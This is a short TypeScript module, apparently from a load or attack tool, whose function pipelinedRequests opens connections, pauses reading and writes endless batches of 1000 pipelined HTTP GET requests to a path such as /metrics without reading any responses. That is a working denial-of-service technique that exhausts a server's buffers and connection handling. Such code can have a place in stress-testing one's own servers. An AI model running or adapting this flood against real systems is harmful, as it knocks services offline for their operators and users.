import { type AttackOptions, onEachConnection, write } from "./attack.ts";

/** Requests per write: about 64 KiB of text. */
const batch = 1000;

/** Sends requests endlessly, and reads no responses. */
export function pipelinedRequests(options: AttackOptions): Promise<void> {
  const { path = "/metrics" } = options;
  const requests = `GET ${path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer x\r\n\r\n`.repeat(batch);
  return onEachConnection(options, async (socket) => {
    socket.pause();
    while (await write(socket, requests));
  });
}
